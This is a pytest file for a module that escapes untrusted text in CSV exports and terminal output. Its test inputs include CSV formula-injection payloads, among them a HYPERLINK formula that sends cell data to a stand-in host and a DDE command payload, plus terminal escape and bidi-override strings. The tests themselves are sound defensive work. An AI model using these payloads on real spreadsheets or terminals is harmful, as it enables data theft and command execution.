"""Text from outside on its way out: CSV cells a spreadsheet reads as text, terminal-safe text."""

from __future__ import annotations

import csv
import io

import pytest
from gatekeeper.common.untrusted import csv_cell, plain_cell, shown

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/c calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def _round_trip(values: list[object]) -> list[str]:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerow([csv_cell(v) for v in values])
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_hostile_cell_is_read_back_starting_with_the_quote(value: str) -> None:
    """A cell that a spreadsheet would run as a formula is written with a leading quote."""
    (cell,) = _round_trip([value])
    assert cell[0] == "'"


def test_carriage_return_inside_a_cell_cannot_end_the_row() -> None:
    r"""A CR inside a cell is written `\r`: rows ending in LF would be cut there otherwise."""
    assert _round_trip(["a\rb", "c"]) == ["a\\rb", "c"]


def test_nul_and_other_controls_are_escaped() -> None:
    r"""NUL, ESC and DEL never reach the file raw; they are written as \xNN."""
    (cell,) = _round_trip(["a\x00b\x1bc\x7f"])
    assert cell == "a\\x00b\\x1bc\\x7f"


def test_e164_number_is_text_with_the_quote() -> None:
    """`+32470123456` is written `'+32470123456`: a spreadsheet keeps the plus and every digit."""
    assert _round_trip(["+32470123456"]) == ["'+32470123456"]


def test_plain_cells_and_our_whole_numbers_are_unchanged() -> None:
    """Ordinary text, 0470 numbers, whole numbers and None (empty) are written as they are."""
    assert _round_trip(["spring-promo", "0470123456", 42, None, ""]) == [
        "spring-promo",
        "0470123456",
        "42",
        "",
        "",
    ]


@pytest.mark.parametrize("value", ["'=1", "'", "''x", "'plain", "a'b", *HOSTILE_CELLS[:-1]])
def test_dropping_one_leading_quote_gives_the_value_back(value: str) -> None:
    """`plain_cell` undoes `csv_cell` exactly, even for values that begin with a quote."""
    assert plain_cell(str(csv_cell(value))) == value


@pytest.mark.parametrize(
    "text",
    ["\x1b]0;pwned\x07", "\x1b[2J", "a\x9b31m", "abc\u202egnp.exe", "line\nbreak", "nul\x00"],
)
def test_shown_leaves_no_control_character(text: str) -> None:
    """ESC, BEL, 8-bit CSI, a bidi override, newline and NUL are escaped for a terminal."""
    assert shown(text).isprintable()


def test_shown_keeps_printable_text_and_is_idempotent() -> None:
    """Printable text (accents, spaces) is unchanged, and escaping twice is escaping once."""
    once = shown("Campagne été \x1b[2J")
    assert (shown("Campagne été"), shown(once)) == ("Campagne été", once)
